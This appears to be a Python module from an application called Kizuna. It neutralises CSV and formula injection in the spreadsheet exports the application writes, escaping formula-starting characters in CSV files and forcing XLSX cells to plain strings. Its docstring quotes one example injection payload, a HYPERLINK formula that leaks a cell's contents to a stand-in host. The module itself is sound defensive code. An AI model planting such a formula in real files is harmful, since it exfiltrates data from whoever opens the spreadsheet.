"""Every cell Kizuna writes to a spreadsheet goes through here: the staff listings' CSV and XLSX exports, the
Import and export files (exports, rows to fix), the jobs that export, and the council report workbook.

Text in a record is data, never a formula of the program that opens the file (OWASP, "CSV injection"): a family
name typed as `=HYPERLINK("http://evil.example/?leak="&A1,"…")` must reach the reader as that text.

- CSV has no cell types: a value starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written with an
  apostrophe in front, which spreadsheet programs read as "text follows". Values that already start with
  apostrophes before such a character get one more, so that `read_csv_cell` gives back exactly what was stored
  (a file exported and imported again changes nothing).
- XLSX cells have a type: text is written as a string cell (never a formula or an error value), as is, with no
  apostrophe. Characters XML 1.0 forbids (control characters other than tab and line breaks, U+FFFE, U+FFFF,
  lone surrogates) cannot be written at all; a stored one (the text rules refuse them, but older rows or a write
  that bypassed the forms may hold one) is replaced by U+FFFD rather than failing the whole file.
"""

import re

# A leading apostrophe (or more) then one of the characters that make a spreadsheet program read a formula.
_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
REPLACEMENT_CHARACTER = "\ufffd"
XLSX_MAX_CELL_LENGTH = 32_767  # Excel's limit; openpyxl cuts longer text anyway


def csv_cell(value):
    """`value` as a CSV cell: text that a spreadsheet program would run as a formula gets an apostrophe first."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def read_csv_cell(value):
    """The inverse of `csv_cell`, for cells read from a CSV file."""
    if isinstance(value, str) and value.startswith("'") and _FORMULA_START.match(value, 1):
        return value[1:]
    return value


def xlsx_text(value: str) -> str:
    """`value` with every character XML cannot carry replaced by U+FFFD."""
    return _NOT_IN_XML.sub(REPLACEMENT_CHARACTER, value)


def xlsx_cell(worksheet, value, *, number_format: str | None = None):
    """A cell for `worksheet.append` (write-only or not): text is a string cell, never a formula."""
    from openpyxl.cell import Cell  # imported when a workbook is written, not at start-up

    # Placed at A1 as openpyxl's WriteOnlyCell is; `append` moves it to its row and column.
    if isinstance(value, str):
        cell = Cell(worksheet, row=1, column=1, value=xlsx_text(value[:XLSX_MAX_CELL_LENGTH]))
        # openpyxl reads "=..." as a formula and "#N/A" as an error value; a record's text is neither.
        cell.data_type = "s"
    else:
        cell = Cell(worksheet, row=1, column=1, value=value)
    if number_format:
        cell.number_format = number_format
    return cell


def xlsx_row(worksheet, values) -> list:
    """The cells of one row (see `xlsx_cell`)."""
    return [xlsx_cell(worksheet, value) for value in values]
